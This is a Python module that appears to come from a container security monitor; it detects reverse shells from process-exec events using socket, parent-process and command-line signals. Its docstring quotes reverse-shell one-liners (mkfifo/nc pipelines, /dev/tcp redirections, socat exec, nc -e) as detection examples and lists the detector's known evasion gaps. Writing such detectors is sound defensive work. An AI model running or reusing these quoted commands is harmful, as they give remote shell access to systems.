"""Reverse shells: a shell or interpreter wired to a network peer, seen at exec time.

Strategy: three signals, strongest first; at most one verdict per event.

1. **Structural** (Tracee TRC-101; Falco "Redirect STDOUT/STDIN to Network Connection"): a
   shell or interpreter whose stdin or stdout (fd 0 or 1) is a connected TCP/UDP socket
   (:attr:`~coi_watch.events.Fd.connected_inet`). No command line is needed, so obfuscation
   and loopback targets do not matter. The program is known by exe basename, comm and argv[0]
   (busybox: exe is ``/bin/busybox``, the applet is argv[0], or argv[1] after ``busybox``).
   Trade-off: an inetd-style or socket-activated service (``StandardInput=socket``) whose
   program is a shell script looks exactly like this; exempt it with ``allow_programs``.
   Shells that sshd starts get a pty, and ``ssh host cmd`` gets pipes or a unix socketpair,
   so neither is an inet socket.
2. **Parent**: a shell or interpreter whose parent (``ancestry[0]``) is a netcat or a socat
   with a network address, or whose parent command line is itself a reverse shell by the
   rules of signal 3. The event carries ancestors' comm/exe/cmdline but not their fds, so
   this is how ``socat tcp:h:p exec:sh`` (a unix socketpair, not an inet socket, on the
   child's stdio) and ``ncat --ssl -e`` (pipes) are caught when their own exec was missed.
   A parent this detector already reported is skipped.
3. **Command line** (the Go original's families, with its gates, plus Falco and Sigma;
   matched in :mod:`coi_watch.detectors._revshell_match`): the argv is normalised
   (:func:`~coi_watch.detectors._cmdline.normalize`), the program is resolved through
   wrappers (``env``, ``timeout``, ``busybox`` ...), and ``sh -c``/``eval``
   scripts are cut into simple commands, so a pattern counts only in command position
   (``echo 'nc -e' >> notes.md`` stays quiet). Families and their ``family`` evidence names:

   - ``nc-exec``: nc/ncat/netcat/nc.traditional/nc.openbsd/busybox nc with ``-e``,
     ``--exec``, ``--sh-exec``, ``--lua-exec``, or ``-c`` followed by a shell command (on
     OpenBSD nc ``-c`` is a TLS flag, hence the gate).
   - ``socat-exec``: socat with an ``EXEC:``/``SYSTEM:``/``SHELL:`` address *and* a network
     address (``TCP:``, ``TCP-LISTEN:``, ``OPENSSL:``, ``UDP:`` ...); Go's gate.
   - ``dev-tcp``/``dev-udp``: a ``/dev/tcp/HOST/PORT`` redirection to a non-loopback host
     (Go's gate) on a shell or interpreter, on ``exec``, read-write (``<>``), on a compound
     command (``done < /dev/tcp/..``), or in a pipeline that feeds a shell (Sigma's
     ``exec 5<>/dev/tcp/`` also catches the bash-only HTTP client ``exec 3<>/dev/tcp/h/80``;
     deliberately). Any other non-loopback ``/dev/tcp`` redirection (``cat </dev/tcp/h/80``,
     a wait-for-port loop) is ``dev-tcp-io`` at the ``dev_tcp_io`` level.
   - ``mkfifo-<relay>`` and ``<relay>-pipe``: a pipeline joining a relay (nc, telnet,
     ``openssl s_client``/``s_server``, socat) and a shell or interpreter that reads its
     commands from stdin (``mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p >/tmp/f``;
     ``telnet h 1 | sh | telnet h 2``); ``mkfifo-`` when the script also makes a fifo
     (mkfifo, ``mknod NAME p``).
   - ``zsh-ztcp``: ``ztcp`` plus a descriptor duplication (``zsh >&$REPLY``).
   - One-liners, at the ``one_liners`` level: ``python-socket``/``python-pty``,
     ``perl-socket``, ``ruby-socket``, ``php-socket``, ``lua-socket``, ``node-net``,
     ``gawk-inet``: inline code (``-c``/``-e``/``-r``/``--eval``, a here-document or a
     here-string into the interpreter) that has a network indicator (``socket``,
     ``fsockopen``, ``TCPSocket``, ``IO::Socket``, ``net.Socket``, ``/inet/tcp`` ...; or
     ``perl -MIO``, ``ruby -rsocket``, ``lua -lsocket``) *and* a way to run commands on it
     (``pty.spawn``, ``subprocess``, ``dup2``, ``exec``, ``system``, ``popen``,
     ``child_process``, ``/bin/`` ...). Go gated one-liners on a network indicator alone,
     which let ``socket.gethostname()`` kill a container; a reverse shell needs both halves.

   Strong families win over one-liners, one-liners over ``dev-tcp-io`` (Go #842).
   Here-documents are data unless a shell or interpreter reads them, so
   ``cat > notes.md <<EOF`` about netcat stays quiet.

Known gaps, left to signal 1: a shell binary copied under another name; names built at run
time (``a=n; b=c; $a$b -e sh``); code fetched or decoded first (``base64 -d | sh``).

Hostile input: every step is linear in the argv (the lexer's argument is in
:mod:`coi_watch.detectors._cmdline`), the whole argv is always examined (no prefix cap a
payload could hide behind), nested scripts stop at :data:`MAX_DEPTH`, and evidence strings
are clipped. Judging a command line is a pure function of it, so short ones are remembered
(agents repeat themselves; replay gives the same verdicts).

State: per pid, the argv already judged and whether it was reported; children inherit both
at fork (a busybox NOEXEC applet keeps its parent's argv), a comm event with a new argv (a
missed exec) is judged by the command-line layer, exit evicts, and at most ``max_tracked``
pids are kept (oldest evicted first).

Dedup key: ``reverse_shell:<container>:<family>:<program>:<remote host>``; ports are left out
because a bind shell's peer port changes with every connection, pids because a burst of the
same shell is one threat.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, ClassVar

from coi_watch.detectors._cmdline import base_name, normalize
from coi_watch.detectors._config import LEVELS, WARN, cfg_int, cfg_level, cfg_strings, check_keys
from coi_watch.detectors._revshell_match import (
    CODE_LANGS,
    MAX_DEPTH,
    ONE_LINER,
    SOCAT_NET,
    STRONG,
    Hit,
    Matcher,
    clip,
    host_of,
    relay_remote,
)
from coi_watch.events import Ancestor, Event, Fd, ProcComm, ProcExec, ProcExit, ProcFork
from coi_watch.verdicts import Severity, Verdict

__all__ = ("DEFAULT_INTERPRETERS", "DEFAULT_SHELLS", "MAX_DEPTH", "ReverseShell")

DEFAULT_SHELLS: tuple[str, ...] = (
    "sh", "bash", "dash", "ash", "zsh", "ksh", "ksh93", "mksh", "oksh", "lksh", "pdksh",
    "posh", "yash", "rbash", "fish", "csh", "tcsh", "hush",
)
# name -> language whose inline code signal 3 reads ("" = structural and parent signals only)
DEFAULT_INTERPRETERS: Mapping[str, str] = {
    "python": "python", "pypy": "python", "perl": "perl", "ruby": "ruby", "irb": "ruby",
    "php": "php", "lua": "lua", "luajit": "lua", "node": "node", "nodejs": "node",
    "bun": "node", "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk",
    "deno": "", "tclsh": "", "wish": "", "expect": "", "pwsh": "", "jrunscript": "",
}
_NAME = "reverse_shell"
# the shared level names without ``info``, plus the Go original's ``warn``
_LEVELS: Mapping[str, Severity | None] = {
    **{k: v for k, v in LEVELS.items() if k != "info"}, **WARN,
}
_MITRE_LANG: Mapping[str, str] = {
    "sh": "T1059.004", "python": "T1059.006", "node": "T1059.007", "lua": "T1059.011",
}
_EVIDENCE_ARGS = 32  # arguments copied into evidence


# ----------------------------------------------------------------------------- the detector


@dataclass(slots=True)
class _Proc:
    argv_key: int
    reported: bool


class ReverseShell:
    """Reverse shells at exec time; the strategy is in the module docstring.

    Config keys (``[detectors.reverse_shell]``), with defaults:

    ``one_liners = "critical"``
        Severity of the interpreter one-liner families (``critical``, ``high``, ``warning``,
        ``off``; Go's ``reverse_shell_one_liners``, whose ``warn`` is accepted). The other
        families and the structural and parent signals are always critical.
    ``dev_tcp_io = "warning"``
        Severity of ``dev-tcp-io`` (a one-way non-loopback ``/dev/tcp`` redirection).
    ``allow_programs = []``
        Names or paths exempted from every signal: matched against the exec'd program
        (exe path and basename, comm, argv[0] and its basename, and a script path in argv[1])
        and against the program a family names (``socat``, ``nc``, ``python``). An
        inetd-style service script is the intended use; allowing ``sh`` blinds the detector.
    ``shells = []`` / ``interpreters = []``
        Extra program names, added to :data:`DEFAULT_SHELLS` / :data:`DEFAULT_INTERPRETERS`
        (an extra interpreter gets the structural and parent signals; inline code is read
        only for the built-in languages).
    ``max_tracked = 32768``
        Pids whose state is kept (oldest evicted first).

    Evidence: ``signal`` (structural, parent, cmdline), ``family``, ``program``, ``pid``,
    ``comm``, ``exe``, ``argv`` (at most 32 arguments of at most 512 characters;
    ``argv_more`` counts the rest), ``remote_host`` when known, ``socket`` (fd, proto, state,
    local, remote) for the structural signal, ``ancestry`` (pid, comm, exe of up to four
    parents) and ``parent_cmdline``, plus the family's own detail (``option``/``target``,
    ``exec``/``network``, ``redirection``, ``code``). MITRE: T1059 with the sub-technique
    of what the attacker gets to run (.004 Unix shell, .006 Python, .007 JavaScript, .011
    Lua), T1095 (a raw TCP/UDP channel), and T1573.002 when the relay speaks TLS.

    Raises:
        ConfigError: an unknown key, or a value of the wrong type or outside its set.
    """

    name: ClassVar[str] = _NAME
    consumes: ClassVar[frozenset[str]] = frozenset(
        {"proc.exec", "proc.comm", "proc.fork", "proc.exit"}
    )

    def __init__(self, config: Mapping[str, Any] | None = None) -> None:
        cfg = dict(config or {})
        check_keys(_NAME, cfg, ("one_liners", "dev_tcp_io", "allow_programs", "shells",
                                "interpreters", "max_tracked"))
        self._one_liners = cfg_level(_NAME, cfg, "one_liners", "critical", _LEVELS)
        self._dev_tcp_io = cfg_level(_NAME, cfg, "dev_tcp_io", "warning", _LEVELS)
        self._allow = frozenset(cfg_strings(_NAME, cfg, "allow_programs"))
        interpreters = dict(DEFAULT_INTERPRETERS)
        for extra in cfg_strings(_NAME, cfg, "interpreters"):
            interpreters.setdefault(extra.lower(), "")
        shells = (*DEFAULT_SHELLS, *(s.lower() for s in cfg_strings(_NAME, cfg, "shells")))
        self._max = cfg_int(_NAME, cfg, "max_tracked", 32768)
        self._m = Matcher(shells, interpreters)
        self._procs: dict[int, _Proc] = {}

    # -- events

    def feed(self, ev: Event, now_ns: int) -> Iterable[Verdict]:
        """Take one process event; return at most one verdict."""
        if isinstance(ev, ProcExec):
            return self._exec(ev)
        if isinstance(ev, ProcComm):
            return self._comm(ev)
        if isinstance(ev, ProcFork):
            parent = self._procs.get(ev.ppid)
            if parent is not None:
                self._remember(ev.pid, parent.argv_key, parent.reported)
        elif isinstance(ev, ProcExit):
            self._procs.pop(ev.pid, None)
        return ()

    def _remember(self, pid: int, argv_key: int, reported: bool) -> None:
        procs = self._procs
        st = procs.get(pid)
        if st is not None:
            st.argv_key, st.reported = argv_key, reported or st.reported
            return
        while len(procs) >= self._max:
            del procs[next(iter(procs))]
        procs[pid] = _Proc(argv_key, reported)

    def _exec(self, ev: ProcExec) -> list[Verdict]:
        argv = _normalized(ev.argv)
        ident = self._identify(ev.exe, normalize(ev.comm), argv)
        signal, hit, sock = "structural", None, None
        if ident is not None:
            sock = next((fd for fd in ev.stdio if fd.fd in (0, 1) and fd.connected_inet), None)
            if sock is not None:
                name, kind = ident
                lang = "sh" if kind == "shell" else kind if kind in CODE_LANGS else ""
                hit = Hit("stdio-socket", name, STRONG, lang, remote=host_of(sock.remote))
        if hit is None and argv:
            signal, hit = "cmdline", self._m.judge(argv)
        if hit is None and ident is not None and ev.ancestry:
            parent = self._procs.get(ev.ancestry[0].pid)
            if parent is None or not parent.reported:
                signal, hit = "parent", self._parent(ev.ancestry[0])
        verdict = self._verdict(ev, argv, signal, hit, sock)
        self._remember(ev.pid, hash(ev.argv), verdict is not None)
        return [verdict] if verdict is not None else []

    def _comm(self, ev: ProcComm) -> list[Verdict]:
        # A comm change with an argv we have not judged: an exec we missed, or a busybox
        # NOEXEC applet of an unknown parent. Same argv as judged before: nothing new.
        st = self._procs.get(ev.pid)
        key = hash(ev.argv)
        if not ev.argv or (st is not None and st.argv_key == key):
            return []
        argv = _normalized(ev.argv)
        verdict = self._verdict(ev, argv, "cmdline", self._m.judge(argv), None)
        self._remember(ev.pid, key, verdict is not None)
        return [verdict] if verdict is not None else []

    # -- signals 1 and 2

    def _identify(self, exe: str, comm: str, argv: Sequence[str]) -> tuple[str, str] | None:
        """``(name, kind)`` when the process is a shell or an interpreter."""
        names = [exe, comm]
        if argv:
            names.append(argv[0])
            if len(argv) > 1 and self._m.lookup(argv[0])[1] == "busybox":
                names.append(argv[1])
        for word in names:
            if not word:
                continue
            name, kind = self._m.lookup(word)
            if kind == "shell" or kind == "interp" or kind in CODE_LANGS:
                return name, kind
        return None

    def _parent(self, parent: Ancestor) -> Hit | None:
        words = _normalized(tuple(parent.cmdline.split()))
        for word in (parent.exe, parent.comm, *words[:1]):
            name, kind = self._m.lookup(word)
            if kind == "nc":
                return Hit("nc-exec", name, STRONG,
                            remote=relay_remote("nc", words[1:]) if words else "")
            if kind == "socat" and words:
                hit = self._m.judge(words, lossy=True)
                if hit is not None:
                    return hit
                if any(a.split(":", 1)[0].lower() in SOCAT_NET for a in words[1:]):
                    return Hit("socat-exec", "socat", STRONG,
                                remote=relay_remote("socat", words[1:]))
        return self._m.judge(words, lossy=True) if words else None

    # -- verdicts

    def _allowed(self, argv: Sequence[str], exe: str, comm: str, program: str) -> bool:
        allow = self._allow
        if not allow:
            return False
        names = {exe, base_name(exe), comm, program}
        if argv:
            names.update((argv[0], base_name(argv[0])))
            if len(argv) > 1 and not argv[1].startswith("-"):
                names.add(argv[1])
        return not allow.isdisjoint(names)

    def _verdict(
        self,
        ev: ProcExec | ProcComm,
        argv: Sequence[str],
        signal: str,
        hit: Hit | None,
        sock: Fd | None,
    ) -> Verdict | None:
        if hit is None:
            return None
        if hit.strength == STRONG:
            severity: Severity | None = Severity.CRITICAL
        else:
            severity = self._one_liners if hit.strength == ONE_LINER else self._dev_tcp_io
        if severity is None:
            return None
        exe = ev.exe if isinstance(ev, ProcExec) else ""
        if self._allowed(argv, exe, ev.comm, hit.program):
            return None
        program, remote = clip(hit.program, 64), clip(hit.remote, 256)
        evidence: dict[str, Any] = {
            "signal": signal,
            "family": hit.family,
            "program": program,
            "pid": ev.pid,
            "comm": ev.comm,
            "argv": [clip(a) for a in ev.argv[:_EVIDENCE_ARGS]],
        }
        if len(ev.argv) > _EVIDENCE_ARGS:
            evidence["argv_more"] = len(ev.argv) - _EVIDENCE_ARGS
        if remote:
            evidence["remote_host"] = remote
        evidence.update(hit.detail)
        title = f"Reverse shell ({hit.family}): {program}"
        if isinstance(ev, ProcExec):
            evidence["exe"] = ev.exe
            if ev.argv_truncated:
                evidence["argv_truncated"] = True
            evidence["ancestry"] = [
                {"pid": a.pid, "comm": a.comm, "exe": a.exe} for a in ev.ancestry[:4]
            ]
            if ev.ancestry:
                evidence["parent_cmdline"] = clip(ev.ancestry[0].cmdline, 256)
        if sock is not None:
            evidence["socket"] = {"fd": sock.fd, "proto": sock.proto, "state": sock.state,
                                  "local": sock.local, "remote": sock.remote}
            title = f"Reverse shell: {program} with stdio on {sock.proto} {sock.remote}"
        mitre = [_MITRE_LANG.get(hit.lang, "T1059"), "T1095"]
        if hit.tls:
            mitre.append("T1573.002")
        return Verdict(
            ts_ns=ev.ts_ns,
            wall_ns=ev.wall_ns,
            container=ev.container,
            detector=self.name,
            title=title,
            severity=severity,
            evidence=evidence,
            mitre=tuple(mitre),
            dedup_key=f"reverse_shell:{ev.container}:{hit.family}:{program}:{remote}",
            event_kind=ev.kind,
            pid=ev.pid,
        )


def _normalized(argv: tuple[str, ...]) -> tuple[str, ...]:
    """``argv`` with every argument :func:`normalize`-d (one C-speed test when all ASCII)."""
    if "".join(argv).isascii():
        return argv
    return tuple(normalize(a) for a in argv)
